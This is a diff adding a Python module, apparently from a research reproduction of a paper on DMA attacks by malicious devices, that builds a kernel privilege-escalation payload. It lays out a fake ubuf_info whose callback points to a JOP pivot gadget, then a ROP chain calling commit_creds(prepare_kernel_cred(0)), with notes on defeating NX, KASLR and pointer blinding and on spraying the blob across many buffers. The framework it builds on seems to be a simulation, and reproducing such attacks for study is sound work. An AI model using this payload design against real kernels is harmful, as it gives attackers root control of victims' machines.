@@ -1,0 +1,81 @@
+"""ROP/JOP payload construction (sections 2.4, 6).
+
+The payload the device plants inside a mapped buffer is a fake
+``ubuf_info`` immediately followed by a poisoned ROP stack:
+
+====== ======================= =========================================
+offset content                 role
+====== ======================= =========================================
+0      JOP pivot gadget KVA    ``ubuf_info.callback`` -- the kernel
+                               indirect-calls this with ``%rdi`` =
+                               &ubuf_info (Figure 4 step (d))
+8      0                       ``ubuf_info.ctx`` (unused)
+16     pop rdi; ret            ROP[0] -- the pivot sets
+                               ``rsp = rdi + 0x10``, landing here
+24     0                       -> rdi = NULL
+32     prepare_kernel_cred     returns root creds token in rax
+40     mov rdi, rax; ret
+48     commit_creds            installs root credentials
+56     STOP sentinel           clean return, no crash
+====== ======================= =========================================
+
+Everything is *data* -- the NX bit never trips because execution only
+ever fetches from kernel text (the gadgets); this is exactly why the
+paper's attacks survive DEP (section 2.4, "Subverting NX-BIT").
+"""
+
+from __future__ import annotations
+
+import struct
+
+from repro.core.attacks.device import AttackerKnowledge
+from repro.cpu.exec import STOP_RIP
+from repro.errors import AttackFailed
+
+#: The ROP chain starts at ubuf+pivot_const; our build's pivot uses 0x10.
+ROP_CHAIN_OFFSET = 0x10
+
+#: Total payload footprint in the buffer.
+UBUF_PAYLOAD_SIZE = ROP_CHAIN_OFFSET + 6 * 8
+
+
+def build_rop_chain(knowledge: AttackerKnowledge) -> list[int]:
+    """The privilege-escalation chain: commit_creds(prepare_kernel_cred(0))."""
+    return [
+        knowledge.gadget_kva("pop rdi"),
+        0,
+        knowledge.symbol_kva("prepare_kernel_cred"),
+        knowledge.gadget_kva("mov rdi, rax"),
+        knowledge.symbol_kva("commit_creds"),
+        STOP_RIP,
+    ]
+
+
+def build_attack_blob(knowledge: AttackerKnowledge) -> bytes:
+    """Fake ubuf_info + poisoned stack, ready to DMA into a buffer.
+
+    Requires the text base (attribute work done by the compound steps);
+    the blob is position-independent except for the gadget/symbol KVAs,
+    so the same bytes can be sprayed into many buffers (RingFlood).
+
+    If the attacker recovered a pointer-blinding cookie (section 7's
+    macOS bypass), the stored callback word is pre-XORed so the
+    kernel's unblinding lands on the pivot gadget.
+    """
+    if not knowledge.kaslr_broken:
+        raise AttackFailed("cannot build payload before KASLR is broken",
+                           stage="payload")
+    if knowledge.pivot_const != ROP_CHAIN_OFFSET:
+        raise AttackFailed(
+            f"pivot constant {knowledge.pivot_const:#x} does not match "
+            f"payload layout {ROP_CHAIN_OFFSET:#x}", stage="payload")
+    callback = knowledge.gadget_kva("pivot")
+    if knowledge.blinding_cookie is not None:
+        callback ^= knowledge.blinding_cookie
+    words = [callback, 0] + build_rop_chain(knowledge)
+    return struct.pack(f"<{len(words)}Q", *words)
+
+
+def blob_callback_value(blob: bytes) -> int:
+    """The ubuf_info.callback field of a built blob (first qword)."""
+    return struct.unpack_from("<Q", blob, 0)[0]
